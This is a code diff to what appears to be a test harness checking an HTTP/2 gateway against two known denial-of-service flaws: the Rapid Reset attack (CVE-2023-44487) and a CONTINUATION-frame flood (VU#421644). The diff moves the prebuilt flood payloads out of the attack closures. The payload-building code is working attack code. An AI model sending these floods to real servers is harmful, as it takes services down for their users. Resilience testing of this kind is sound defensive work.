@@ -124,14 +124,15 @@ def _ignored(_: bool) -> None:
 
 def rapid_reset(scene: Scene) -> Watch:
     """CVE-2023-44487."""
+    encoder = Encoder()
+    pieces = [PREFACE, SettingsFrame(0).serialize()]
+    for number in range(1, 4001, 2):
+        pieces.append(_head(encoder, number, ["END_HEADERS", "END_STREAM"]))
+        pieces.append(RstStreamFrame(number, error_code=8).serialize())
+    every = b"".join(pieces)  # once, so that CPUs are left to who is attacked
 
     def attack(client: Client) -> None:
-        encoder = Encoder()
-        pieces = [PREFACE, SettingsFrame(0).serialize()]
-        for number in range(1, 4001, 2):
-            pieces.append(_head(encoder, number, ["END_HEADERS", "END_STREAM"]))
-            pieces.append(RstStreamFrame(number, error_code=8).serialize())
-        client.send(b"".join(pieces))
+        _ignored(client.send(every))
 
     gateway = scene.gateway(scene.ini(listener="http2 = yes"))
     with scene.watched(gateway) as watch:
@@ -142,9 +143,11 @@ def rapid_reset(scene: Scene) -> Watch:
 def continuation(scene: Scene) -> Watch:
     """VU#421644."""
 
+    head = PREFACE + SettingsFrame(0).serialize() + _head(Encoder(), 1, [])
+    every = head + ContinuationFrame(1, b"").serialize() * 20_000
+
     def attack(client: Client) -> None:
-        head = PREFACE + SettingsFrame(0).serialize() + _head(Encoder(), 1, [])
-        client.send(head + ContinuationFrame(1, b"").serialize() * 20_000)
+        _ignored(client.send(every))
 
     gateway = scene.gateway(scene.ini(listener="http2 = yes"))
     with scene.watched(gateway) as watch:
